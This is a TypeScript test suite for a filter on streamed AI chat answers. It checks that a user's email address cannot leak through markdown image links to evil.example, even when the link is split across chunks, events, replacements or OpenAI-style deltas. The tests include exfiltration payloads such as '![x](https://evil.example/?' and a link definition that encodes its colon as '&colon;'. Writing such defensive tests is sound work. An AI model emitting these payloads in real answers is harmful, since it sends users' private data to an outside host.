import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { byteString, fromByteString } from '../../../support/bytes.ts'
import { listen } from '../../../support/answers/answer-stream.ts'

type Event = Readonly<Record<string, unknown>>

const TARGET = '![x](https://evil.example/?'
const IDS = { message_id: 'm-1' }
const RUN = { workflow_run_id: 'r-1' }
const message = (answer: string, node?: string): Event => ({
  event: 'message',
  ...IDS,
  answer,
  ...(node === undefined ? {} : { from_variable_selector: [node, 'text'] }),
})
const chunk = (text: string, node: string): Event => ({
  event: 'text_chunk',
  ...RUN,
  data: { text, from_variable_selector: [node, 'text'] },
})

/** What the client is sent, as one string. */
function shown(events: readonly Event[]): string {
  const { stream } = listen({ values: { EMAIL_1: 'alice@x.vn' } })
  let out = ''
  for (const event of events) out += stream.push(byteString(`data: ${JSON.stringify(event)}\n\n`))
  return fromByteString(out + stream.end())
}

const isShown = (...events: readonly Event[]): boolean => shown(events).includes('alice@x.vn')

describe('pieces that a client joins', () => {
  it('are one text, whatever node they come from', () => {
    assert.ok(!isShown(message(TARGET, 'a'), message('EMAIL_1)', 'b')))
    assert.ok(!isShown(chunk(TARGET, 'a'), chunk('EMAIL_1)', 'b')))
    assert.ok(isShown(message('see ', 'a'), message('EMAIL_1', 'b')))
  })

  it('are one text, whatever event brings them', () => {
    assert.ok(!isShown(message(TARGET), { event: 'agent_message', ...IDS, answer: 'EMAIL_1)' }))
  })

  it('are texts of their own too, as a client shows them that keeps nodes apart', () => {
    const definition = '[x]: https&colon;//evil.example/?EMAIL_1\n\n![x]'
    assert.ok(!isShown(message('see ', 'a'), message(definition, 'b')))
  })

  it('are not joined with those of another message', () => {
    assert.ok(isShown(message(TARGET), { event: 'message', message_id: 'm-2', answer: 'EMAIL_1)' }))
  })

  it('go on after a replacement, and after what it has replaced', () => {
    const replace = (answer: string): Event => ({ event: 'message_replace', ...IDS, answer })
    assert.ok(isShown(message('see '), replace('sorry, EMAIL_1'), message(' and')))
    assert.ok(isShown(message(TARGET), replace('sorry, EMAIL_1')))
    assert.ok(!isShown(message('see '), replace(TARGET), message('EMAIL_1)')))
    assert.ok(!isShown(message(TARGET), replace('sorry'), message('EMAIL_1)')))
    assert.ok(!isShown(message('see '), replace(`{"a":"b"}`), message('EMAIL_1')))
    const more = Array.from({ length: 5 }, () => replace('sorry'))
    assert.ok(isShown(message('see '), ...more.slice(2), message('EMAIL_1')))
    assert.ok(!isShown(message('see '), ...more, message('EMAIL_1')))
  })

  it('go on after the replacement of a run', () => {
    const replace = { event: 'text_replace', ...RUN, data: { text: TARGET } }
    assert.ok(!isShown(chunk('see ', 'a'), replace, chunk('EMAIL_1)', 'a')))
  })

  it('are one text by path in events of which nothing is known, as those of OpenAI', () => {
    const piece = (content: string, key = 'content'): Event => ({
      choices: [{ delta: { [key]: content } }],
    })
    assert.ok(!isShown(piece(TARGET), piece('EMAIL_1)')))
    assert.ok(isShown(piece(TARGET), piece('EMAIL_1)', 'reasoning')))
    assert.ok(isShown(piece('see '), piece('EMAIL_1')))
  })

  it('are whole texts in events of which that is known', () => {
    const ended = (text: string): Event => ({
      event: 'node_finished',
      ...RUN,
      data: { outputs: { text } },
    })
    assert.ok(isShown(ended(TARGET), ended('EMAIL_1)')))
  })
})
